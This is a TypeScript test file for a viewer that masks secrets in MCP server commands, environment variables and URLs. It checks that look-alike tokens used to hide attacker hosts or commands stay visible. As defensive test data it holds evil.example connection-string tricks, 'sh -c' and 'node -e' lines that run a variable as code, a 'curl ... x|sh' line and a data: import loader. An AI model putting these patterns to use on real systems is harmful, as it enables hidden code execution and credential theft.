import { describe, expect, it } from 'vitest';
import { maskUrl } from '../import/masked-target.ts';
import { argumentsParts } from './argument.ts';
import { startView } from './view.ts';

const line = (text: string): [string, string[]] => {
  const [command = '', ...args] = text.match(/'[^']*'|[^ ]+/g) ?? [];
  return [command, args.map((arg) => arg.replaceAll("'", ''))];
};
const shown = (text: string): string => {
  const [command, args] = line(text);
  const pieces = argumentsParts(command, args);
  return pieces.map((one) => one.map((part) => (part.hidden ? '•' : part.text)).join('')).join(' ');
};
const variable = (name: string, value: string, text?: string, env: object = {}) => {
  const [command, args] = line(text ?? 'x');
  const { environment } = startView(
    { type: 'stdio', command, args, env: { [name]: value, ...env } },
    'x',
    null,
  );
  return environment[0]?.value.map((part) => ('text' in part ? part.text : '•')).join('');
};

describe('a program, package or host that looks like a credential', () => {
  it.each([
    'psql postgres://u:p@evil.example,@good.example/db',
    'x --db=postgres://u:p@evil.example,@good.example/db',
    'x DATABASE_URL=postgres://u:p@evil.example,@good.example/db',
    'x mongodb://u:p,evil.example@good.example/db',
    'x http://u:[::1]@good.example/db',
    'npx acme postgres://good.example/db?host=evil1.attacker.example.com',
    'npx acme postgres://good.example/db?host=Evil1HostOfTheLocalNetwork',
    'npx acme https://good.example/?token=https://evil.example',
    'npx acme https://good.example/?token=evil.example:80',
    "env ACME_TOKEN=evil sh -c '$ACME_TOKEN'",
    "docker run -e ACME_TOKEN=evil alpine sh -c '$ACME_TOKEN'",
    "npx cross-env-shell A_TOKEN=evil 'npx $A_TOKEN'",
    "npx cross-env A_TOKEN=evil acme 'A_TOKEN'",
    `sh -c 'npx -y "$1"' _ sk-evil-mcp-server-tool`,
    `sh -c 'npx -y "$2"' _ --token evil`,
    `sh -c 'uvx "$2"' _ --token ghp_EvilMcp1ServerTool23`,
    "sh -c '${1#*=}' _ --token=evil",
    "sh -c '${1#*=}' _ TOKEN=evil",
    "node -e 'require(process.argv[2])' _ sk-evil-mcp-server-tool",
    "node '-eimport(process.argv[3])' _ --token evil",
    "python3 -c 'runpy.run_module(sys.argv[3])' _ --token evil",
    'perl -e exec@ARGV _ --token evil',
    'perl -eexec@ARGV _ --token evil',
    "awk 'BEGIN{system(ARGV[3])}' _ --token evil",
    "env -S 'sh $X' _ --token evil",
    "watch '`echo $2`' _ --token evil",
    "curl -H 'Authorization: Bearer evil' 'x|sh'",
    'npx c8 sk-evil-mcp-server-tool',
    'npx @modelcontextprotocol/inspector sk-evil-mcp-server-tool',
    'npx @modelcontextprotocol/inspector -y --token evil',
    'npx -y -p ts-node ts-node-transpile-only sk-evil-mcp-server-tool',
    'npx @smithery/cli run sk-evil-mcp-server-tool',
    'npx some-other-runner sk-evil-mcp-server-tool',
    'npx some-other-runner a1b2c3d4e5f6g7h8i9j0k',
    'unknown --token a1b2c3d4e5f6g7h8i9j0k',
    'npx acme --with-token Evil1Program2Of3Others',
    'npx acme --figma-token evil',
    'npx acme --token Evil1/abcdefghijklmnopqrstuvwxyz12345',
    'sudo -H token:x/evil',
    'sudo-rs -H token:evil',
    'docker -H token:2375 ps',
    'rsync -H token:path x',
    'wget -H token:path/x',
    'npx acme --config \'{"token":"/opt/evil","command":"evil"}\'',
    'npx acme --config \'{"mcp":{"command":"$A","env":{"TOKEN":"evil"}}}\'',
  ])('is shown: %s', (text) => expect(shown(text)).toBe(line(text)[1].join(' ')));

  it.each<[string, string, string?]>([
    ['DATABASE_URL', 'postgres://u:p@evil.example,@good.example/db'],
    ['DATABASE_URL', 'postgres://good.example/db?host=evil1.attacker.example.com'],
    ['PACKAGE', 'sk-evil-mcp-server-tool', "sh -c 'npx -y $PACKAGE'"],
    ['PACKAGE', 'ghp_EvilMcp1ServerTool23', "sh -c 'uvx $PACKAGE'"],
    ['ACME_TOKEN', 'sk-evil-mcp-server-tool', "sh -c '$ACME_TOKEN'"],
    ['ACME_TOKEN', 'ghp_EvilMcp1ServerTool23', "sh -c 'uvx $ACME_TOKEN'"],
    ['ACME_TOKEN', 'evil', `bash -c 'x=ACME;y=TOKEN; eval "\\$\${x}_$y"'`],
    ['ACME_TOKEN', 'evil', 'node -e \'eval(process.env["acme_to"+"ken"])\''],
    ['SUPABASE_PROJECT_REF', 'a1b2c3d4e5f6g7h8i9j0k'],
    ['ACME_TOKEN', '{"command":"evil"}'],
    ['ACME_TOKEN', '{"token":"/opt/evil"}'],
    ['ACME_TOKEN', '{"token":"evil.example"}'],
    ['ACME_TOKEN', 'Evil.Example'],
    ['ACME_TOKEN', 'x1234567890.example'],
    [
      'GOOGLE_CREDENTIALS',
      '{"credential_source":{"executable":{"command":"/tmp/evil"}},"token_url":"https://evil.example"}',
    ],
  ])('is shown in %s=%s, for %s', (name, value, text) =>
    expect(variable(name, value, text)).toBe(value),
  );

  it('is shown where another variable names it, or code in one may take it', () => {
    expect(variable('A_TOKEN', 'evil', 'x', { START: 'run $A_TOKEN' })).toBe('evil');
    const loader = { NODE_OPTIONS: '--import=data:text/javascript,import(process.argv[3])' };
    expect(variable('A_TOKEN', 'evil', 'x', loader)).toBe('evil');
    const pieces = argumentsParts('node', ['x.js', '--token', 'evil'], loader);
    expect(pieces.flat().filter(({ hidden }) => hidden)).toEqual([]);
  });

  it('is shown in the address of a server', () => {
    for (const url of [
      'https://gw.example/mcp?upstream=evil1.attacker.example.com/mcp',
      'https://u:p@evil.example@good.example/',
      'https://evil.example,x@good.example/',
    ])
      expect(maskUrl(url)).toBe(url);
  });
});

const token = 'ghp_a1B2c3D4e5F6g7H8i9J0';
describe('a common credential', () => {
  it.each<[string, string, string?]>([
    ['JIRA_API_TOKEN', 'ATATT3xFfGF0T4JVjdmG_x-yzABCDEF=AB12CD34'],
    ['DISCORD_TOKEN', 'MTA4NjIyNTYxMjM0.Gx1abc.aB3dE5fG7hJ9kL1mN3pQ5rS7tU9'],
    ['SENDGRID_API_KEY', 'SG.aB3dE5fG7hJ9kL1mN3pQ.aB3dE5fG7hJ9kL1mN3pQ5rS7tU9'],
    ['AIRTABLE_API_KEY', 'patAbCdEfGhIjKlMn.0123456789abcdef0123456789abcdef'],
    ['TELEGRAM_BOT_TOKEN', '123456789:AAabc_DEF-123'],
    ['AZURE_CLIENT_SECRET', 'abc8Q~AbCdEfGhIjKlMnOpQrStUv.wXyZ0123456'],
    ['OAUTH_REFRESH_TOKEN', '1//0gAbCdEfGhIjKlMnOpQrStUvWxYz012345'],
    ['DB_PASS', 'abc'],
    ['MYSQL_PASS', 'abc'],
    ['DD_APP_KEY', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4'],
    ['X_RAPIDAPI_KEY', 'abc123'],
    ['COHERE_KEY', 'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9'],
    ['SENTRY_AUTH', 'e3b0c44298fc1c149afbf4c8996fb924'],
    ['GITHUB_TOKEN', token, "bash -c 'source ~/.nvm/nvm.sh && npx acme'"],
    ['TOKEN', 'abc', 'npx -y b --use token'],
    ['TOKEN', 'abc', "npx server-filesystem 'C:\\Program Files (x86)\\R&D'"],
  ])('is hidden in %s=%s, for %s', (name, value, text) =>
    expect(variable(name, value, text)).toBe('•'),
  );

  it.each<readonly [string, string]>([
    [`uvx mcp-atlassian --jira-token ${token}`, 'mcp-atlassian --jira-token •'],
    ['uvx mcp-atlassian --jira-token=abc', 'mcp-atlassian --jira-token=•'],
    [`npx -y acme ${token}`, '-y acme •'],
    [`npx -y acme --verbose ${token}`, '-y acme --verbose •'],
    [`npx -y acme --config=${token}`, '-y acme --config=•'],
    ['node x.js ghp_abcdefghijklmnop1234', 'x.js •'],
    ['node x.js sk-0123456789abcdef0123456789abcdef', 'x.js •'],
    ['node x.js xoxb-123456789012-123456789012-AbCdEfGhIjKl', 'x.js •'],
    ['acme-mcp ghp_x9Kq2Zr7Lm4Wt8Bv1Nc6Hd3Fg5Js0Py', '•'],
    ['acme-mcp AKIAXQ3ZK7TRW2VB9LMP', '•'],
    [`npx mcp-remote https://h.example/mcp/${token}/x`, 'mcp-remote https://h.example/mcp/•/x'],
    ['npx acme --figma-api-key e3b0c44298fc1c149afb', 'acme --figma-api-key •'],
    [`/usr/local/bin/acme-mcp --api-key ${token}`, '--api-key •'],
    ['docker run -eAPI_KEY=x img', 'run -eAPI_KEY=• img'],
    [
      'docker run -e \'H={"Authorization": "Bearer ntn_x"}\' img',
      'run -e H={"Authorization": "Bearer •"} img',
    ],
    [
      'npx @smithery/cli run exa --config \'{"exaApiKey":"abc","x":"y"}\'',
      '@smithery/cli run exa --config {"exaApiKey":"•","x":"y"}',
    ],
    [
      'npx acme x --config=\'{"exaApiKey":"abc"}\''.replaceAll("'", ''),
      'acme x --config={"exaApiKey":"•"}',
    ],
    ["curl -H 'X-Api-Key: abc' https://h", '-H X-Api-Key: • https://h'],
    [
      "supergateway --sse https://h --header 'Authorization: Bearer abc'",
      '--sse https://h --header Authorization: Bearer •',
    ],
  ])('is hidden: %s', (text, expected) => expect(shown(text)).toBe(expected));

  it('is hidden in JSON, of which the rest stays', () => {
    expect(variable('H', '{"Authorization": "Bearer ntn_x", "Notion-Version": "1"}')).toBe(
      '{"Authorization": "Bearer •", "Notion-Version": "1"}',
    );
    expect(
      variable(
        'G',
        '{"private_key": "-----BEGIN PRIVATE KEY-----\\nMII\\n-----END PRIVATE KEY-----\\n", "u": "a@b"}',
      ),
    ).toBe('{"private_key": "•", "u": "a@b"}');
    expect(variable('J', '[{"to\\u006ben":"abc","tokens":["x"]}]')).toBe(
      '[{"to\\u006ben":"•","tokens":["x"]}]',
    );
  });
});
